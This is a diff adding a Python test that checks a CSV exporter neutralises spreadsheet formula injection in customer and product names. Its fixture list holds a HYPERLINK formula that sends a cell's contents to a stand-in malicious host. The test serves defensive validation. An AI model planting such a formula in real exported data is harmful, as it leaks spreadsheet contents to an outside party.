@@ -430,6 +430,40 @@ def test_export_then_import_into_an_empty_folder_gives_the_same_catalogue(custom
         empty.close()
 
 
+FORMULA_NAMES = ['=HYPERLINK("http://malo.example/x?d="&A1;"Ver")', "+51 987 654 321", "-Descuento-",
+                 "@empresa", "\tTabulado", "\rRetorno", "'=Ya con apóstrofo", "'Apóstrofo normal", "O'Higgins"]
+
+
+def test_names_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_imported_back_unchanged(
+        customers, products, tmp_path):
+    """Issue 35: the export wrote `=HYPERLINK(…)` names as formulas; now a leading apostrophe, taken off on import."""
+    for number, name in enumerate(FORMULA_NAMES, start=1):
+        customers.save(records.customer(tipo_documento="1", numero=f"4000000{number}", nombre=name,
+                                        direccion="=1+1" if number == 1 else None))
+        products.save(records.product(codigo=f"F-{number}", descripcion=name, precio="1.50"))
+    csvfiles.customers_file(customers).export(tmp_path / "clientes.csv")
+    csvfiles.products_file(products).export(tmp_path / "productos.csv")
+    text_of = (tmp_path / "clientes.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for line in text_of.split("\r\n")[1:] for cell in line.split(";")]
+    assert not [cell for cell in cells if cell.strip('"').startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(" in text_of and "'=1+1" in text_of and "''=Ya con apóstrofo" in text_of
+    assert ";'Apóstrofo normal;" in text_of and ";O'Higgins;" in text_of
+    products_text = (tmp_path / "productos.csv").read_text(encoding="utf-8-sig")
+    assert ";1,50;" in products_text  # amounts stay numbers, unguarded
+    empty = _open(tmp_path / "vacia")
+    try:
+        other_customers, other_products = _customers(empty), _products(empty)
+        assert csvfiles.customers_file(other_customers).import_file(tmp_path / "clientes.csv").ok
+        assert csvfiles.products_file(other_products).import_file(tmp_path / "productos.csv").ok
+        assert {c.nombre for c in customers.all()} >= set(FORMULA_NAMES[:4]) | set(FORMULA_NAMES[6:])
+        assert sorted(c.nombre for c in other_customers.all()) == sorted(c.nombre for c in customers.all())
+        assert [c.data() for c in other_customers.all()] == [c.data() for c in customers.all()]
+        assert sorted(p.descripcion for p in other_products.all()) == sorted(p.descripcion for p in products.all())
+        assert [p.data() for p in other_products.all()] == [p.data() for p in products.all()]
+    finally:
+        empty.close()
+
+
 def test_a_file_from_excel_in_spanish_windows_is_read(products, customers, tmp_path):
     """Windows-1252, `;`, decimal comma, headers in another order and spelling, Excel's mangled numbers."""
     path = tmp_path / "excel.csv"
